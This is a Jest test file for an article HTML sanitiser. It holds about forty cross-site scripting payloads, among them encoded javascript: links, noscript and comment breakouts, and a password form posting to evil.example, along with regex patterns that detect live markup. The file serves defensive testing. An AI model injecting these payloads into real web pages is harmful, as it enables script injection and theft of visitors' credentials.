/** @jest-environment node */
import { sanitizeArticle } from './sanitize-article';

/** Hostile bodies as an author (or an attacker with an editor's account) might store them. */
const HOSTILE: [string, string][] = [
  ['script element', '<p>a</p><script>alert(1)</script>'],
  ['script with src', '<script src="https://evil.example/x.js"></script>'],
  ['upper-case script with a space before the end', '<SCRIPT>alert(1)</SCRIPT >'],
  ['svg onload', '<svg onload="alert(1)"><circle r="5"/></svg>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['img onerror', '<img src="x" onerror="alert(1)">'],
  ['img onerror without quotes', '<img src=x onerror=alert(1)//>'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['javascript: link', '<a href="javascript:alert(1)">x</a>'],
  ['javascript: link with entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ['javascript: link with a tab', '<a href="java\tscript:alert(1)">x</a>'],
  ['javascript: link with an entity tab and spaces', '<a href="  jav&#x09;ascript:alert(1)">x</a>'],
  ['javascript: link in upper case', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data: image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['protocol-relative image', '<img src="//evil.example/track.gif">'],
  ['style expression', '<p style="width: expression(alert(1))">x</p>'],
  ['style element with javascript url', '<style>body { background: url("javascript:alert(1)") }</style>'],
  ['object', '<object data="https://evil.example/x.swf"></object>'],
  ['embed', '<embed src="https://evil.example/x.swf">'],
  ['form action', '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>'],
  ['input autofocus onfocus', '<input autofocus onfocus="alert(1)">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base href', '<base href="https://evil.example/">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['math xlink', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
  ['noscript breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['attribute breakout', '<p title="x" onmouseover="alert(1)">x</p>'],
  ['attribute breakout through quotes', '<a href="/ok" title=\'"><script>alert(1)</script>\'>x</a>'],
  ['nested tags', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['unclosed tags', '<p><img src=x onerror=alert(1)'],
  ['unclosed script', '<p>a<script>alert(1)'],
  ['event handler on a table', '<table onclick="alert(1)"><tr><td>x</td></tr></table>'],
  ['anchor with formaction-like attributes', '<a href="/x" onclick="alert(1)" style="color:red">x</a>'],
  ['comment trick', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['xml processing instruction', '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>'],
  ['html-encoded script in text stays text', '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>'],
];

/** What must never appear in sanitised output, as live markup. */
const FORBIDDEN: RegExp[] = [
  /<script/i,
  /<\/?(svg|math|iframe|object|embed|form|input|button|meta|base|link|style|template|noscript|textarea|select)\b/i,
  /\son[a-z]+\s*=/i,
  /(href|src)\s*=\s*"\s*(javascript|vbscript|data):/i,
  /(href|src)\s*=\s*"\/\//i,
  /\sstyle\s*=/i,
  /expression\s*\(/i,
  /xlink:href/i,
];

describe('sanitizeArticle: hostile payloads', () => {
  test('covers at least 20 payloads', () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(20);
  });

  test.each(HOSTILE)('%s does not survive', (_name, payload) => {
    const clean = sanitizeArticle(payload);
    for (const pattern of FORBIDDEN) expect(clean).not.toMatch(pattern);
    // Sanitising is stable: what comes out has nothing left to remove.
    expect(sanitizeArticle(clean)).toBe(clean);
  });

  test('javascript: links keep their text but lose the address', () => {
    expect(sanitizeArticle('<a href="javascript:alert(1)">Read</a>')).toBe('<a>Read</a>');
    expect(sanitizeArticle('<a href="&#106;avascript:alert(1)">Read</a>')).toBe('<a>Read</a>');
  });

  test('images without a safe source are dropped', () => {
    expect(sanitizeArticle('<p>a<img src="javascript:alert(1)">b</p>')).toBe('<p>ab</p>');
    expect(sanitizeArticle('<img src="data:image/png;base64,AAAA">')).toBe('');
  });

  test('escaped markup in text stays escaped text', () => {
    expect(sanitizeArticle('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>')).toBe('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>');
  });

  test('script and style content is dropped, not shown as text', () => {
    expect(sanitizeArticle('<p>a</p><script>alert(1)</script><style>p{}</style>')).toBe('<p>a</p>');
  });
});

describe('sanitizeArticle: ordinary rich content', () => {
  test('keeps headings, paragraphs, lists, emphasis, code and quotes', () => {
    const html =
      '<h2>Procedure</h2><p>Use <strong>fresh</strong> <em>buffer</em>.</p><ol start="2"><li>Fix</li><li>Stain</li></ol><ul><li>a</li></ul><blockquote>Quote</blockquote><pre><code>x = 1</code></pre>';
    expect(sanitizeArticle(html)).toBe(html);
  });

  test('keeps tables with their structure and spans', () => {
    const html =
      '<table><caption>Media</caption><thead><tr><th scope="col">Item</th><th>Condition</th></tr></thead><tbody><tr><td colspan="2">37 °C</td></tr></tbody></table>';
    expect(sanitizeArticle(html)).toBe(html);
  });

  test('keeps images with site-relative and https sources, lazily loaded, inside figures', () => {
    expect(sanitizeArticle('<figure><img src="/files/a.png" alt="Stained section" width="600"><figcaption>H&amp;E</figcaption></figure>')).toBe(
      '<figure><img src="/files/a.png" alt="Stained section" width="600" loading="lazy" decoding="async" /><figcaption>H&amp;E</figcaption></figure>',
    );
    expect(sanitizeArticle('<img src="https://cdn.example.com/a.jpg">')).toBe(
      '<img src="https://cdn.example.com/a.jpg" alt="" loading="lazy" decoding="async" />',
    );
  });

  test('keeps site links as they are and marks external ones', () => {
    expect(sanitizeArticle('<a href="/goods-list?id=CP001">Reagents</a>')).toBe('<a href="/goods-list?id=CP001">Reagents</a>');
    expect(sanitizeArticle('<a href="https://pubmed.example.org/1">Paper</a>')).toBe(
      '<a href="https://pubmed.example.org/1" rel="noopener noreferrer nofollow" target="_blank">Paper</a>',
    );
    expect(sanitizeArticle('<a href="#step-2">Step 2</a>')).toBe('<a href="#step-2">Step 2</a>');
  });

  test('shifts headings so the body starts at h2 under the page title', () => {
    expect(sanitizeArticle('<h3>A</h3><p>x</p><h4>B</h4>')).toBe('<h2>A</h2><p>x</p><h3>B</h3>');
    expect(sanitizeArticle('<h1>A</h1><h2>B</h2>')).toBe('<h2>A</h2><h3>B</h3>');
    expect(sanitizeArticle('<h2>A</h2><h3>B</h3>', 3)).toBe('<h3>A</h3><h4>B</h4>');
  });

  test('keeps the seed’s article markup', () => {
    const html = '<h3>Expected result</h3>\n<p>Nuclei blue</p>\n<p><a href="/goods-list?id=FW001">Histopathology services</a></p>';
    expect(sanitizeArticle(html)).toBe('<h2>Expected result</h2>\n<p>Nuclei blue</p>\n<p><a href="/goods-list?id=FW001">Histopathology services</a></p>');
  });
});
